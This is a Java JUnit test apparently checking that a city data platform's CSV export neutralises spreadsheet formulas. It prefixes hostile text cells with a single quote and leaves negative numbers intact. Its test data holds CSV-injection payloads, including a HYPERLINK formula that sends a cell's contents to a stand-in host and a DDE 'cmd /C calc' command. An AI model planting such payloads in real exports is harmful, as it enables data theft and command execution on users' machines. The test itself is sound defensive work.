package org.cityplatform.exchange.records;

import static org.cityplatform.exchange.support.Http.as;
import static org.cityplatform.exchange.support.Http.asAgency;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.cityplatform.exchange.support.Platform;
import org.cityplatform.exchange.support.TestCodes;
import org.cityplatform.exchange.support.TestKeys;
import org.cityplatform.exchange.support.Tokens;
import org.junit.jupiter.api.Test;

/**
 * CSV exports carry no formulas (OWASP, CSV injection): a text cell a spreadsheet would run is
 * written quoted with a single quote in front; numbers, negative ones too, stay numbers.
 */
@QuarkusTest
class CsvInjectionTest {

    /** Hostile text cells as pushed, and the cell each must become in the CSV. */
    static final Map<String, String> HOSTILE = Map.of(
            "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\"",
            "+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\"",
            "-2+3", "\"'-2+3\"",
            "@SUM(1)", "\"'@SUM(1)\"",
            "a;=1+2", "\"a;=1+2\"");

    @Test
    void anAgencyCsvExportNeutralisesFormulasAndKeepsNegativeNumbers() {
        String provider = Platform.registerSignedAgency("市财政局");
        String dataset = TestCodes.datasetCode("accounts");
        as(Tokens.center()).contentType(ContentType.JSON)
                .body(Map.of("code", dataset, "name", "账户余额", "provider", provider, "subjectType", "PERSON",
                        "sharingClass", "CONDITIONAL", "updateCycle", "DAILY", "legalBasis", "《预算法》",
                        "fields", List.of(Map.of("name", "note", "type", "STRING"),
                                Map.of("name", "balance", "type", "NUMBER"),
                                Map.of("name", "count", "type", "INTEGER"))))
                .post("/api/v1/datasets").then().statusCode(201);
        StringBuilder body = new StringBuilder();
        int i = 0;
        for (String hostile : HOSTILE.keySet()) {
            body.append("{\"key\":\"").append(TestKeys.person(600 + i++)).append("\",\"data\":{\"note\":")
                    .append(io.vertx.core.json.Json.encode(hostile)).append(",\"balance\":-5.25,\"count\":-5}}\n");
        }
        body.append("{\"key\":\"").append(TestKeys.person(700)).append("\",\"data\":{\"note\":\"-5\",\"balance\":-1.5e3,\"count\":0}}\n");
        Platform.push(provider, dataset, body.toString());

        String csv = new String(asAgency(provider).accept("text/csv").get("/api/v1/datasets/" + dataset + "/export")
                .then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
        i = 0;
        for (Map.Entry<String, String> hostile : HOSTILE.entrySet()) {
            String row = TestKeys.person(600 + i++) + "," + hostile.getValue() + ",-5.25,-5\r\n";
            assertTrue(csv.contains(row), "expected row " + row + " in " + csv);
        }
        // A number is no formula, whether a JSON number or text holding just one.
        assertTrue(csv.contains(TestKeys.person(700) + ",-5,-1.5e3,0\r\n") || csv.contains(TestKeys.person(700) + ",-5,-1500"),
                csv);
        assertEquals("key,note,balance,count", csv.lines().findFirst().orElseThrow());
    }
}
